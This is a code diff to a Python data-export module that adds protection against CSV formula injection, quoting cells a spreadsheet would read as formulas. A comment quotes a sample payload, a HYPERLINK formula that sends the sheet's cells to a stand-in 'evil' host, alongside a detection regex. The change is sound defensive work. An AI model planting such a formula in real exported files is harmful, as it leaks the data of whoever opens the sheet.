@@ -70,8 +70,29 @@ STREAMED = ("json", "csv")
 TABLE_ROWS = 10_000
 
 
-def stream(columns: Sequence[str], rows: Iterable[Sequence[Any]], fmt: str) -> Iterator[str]:
-    """``fmt`` (json or csv) in pieces of about 500 rows, each piece's lines ended; the same text as one dump."""
+# What makes a spreadsheet (Excel, LibreOffice Calc, Google Sheets) open a cell as a formula: =, +, - or @ first
+# (after any spaces, which an import may trim), or a tab or carriage return first (OWASP's list). A post's text is a
+# stranger's: =HYPERLINK("http://evil/?"&A1,"click") sent the sheet's cells away when the operator opened the csv.
+_FORMULA = re.compile(r"[\t\r]|\s*[=+\-@]")
+# A number written as text (printf('%.2f', -1.5)) is read as that number, no formula: it stays as it is.
+_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
+# What a formula's cell starts with but a space: most cells start with neither, and are let by without a match.
+_FORMULA_FIRST = frozenset("=+-@")
+
+
+def spreadsheet_cell(value: Any) -> Any:
+    """``value`` with a ' before it where it is text a spreadsheet would take for a formula (the quote marks a cell as
+    text); numbers, and text that is one, as they are."""
+    if (isinstance(value, str) and value and (value[0] in _FORMULA_FIRST or value[0].isspace())
+            and _FORMULA.match(value) and not _NUMBER.fullmatch(value)):
+        return "'" + value
+    return value
+
+
+def stream(columns: Sequence[str], rows: Iterable[Sequence[Any]], fmt: str, *, csv_raw: bool = False
+           ) -> Iterator[str]:
+    """``fmt`` (json or csv) in pieces of about 500 rows, each piece's lines ended; the same text as one dump. A csv
+    cell a spreadsheet would take for a formula is written as text (spreadsheet_cell) unless ``csv_raw``."""
     if fmt == "json":
         yield "["
         count = 0
@@ -97,7 +118,7 @@ def stream(columns: Sequence[str], rows: Iterable[Sequence[Any]], fmt: str) -> I
 
     write(columns)
     for i, row in enumerate(rows, 1):
-        write(row)
+        write(row if csv_raw else map(spreadsheet_cell, row))
         if i % 500 == 0:
             yield buf.getvalue()
             buf.seek(0)
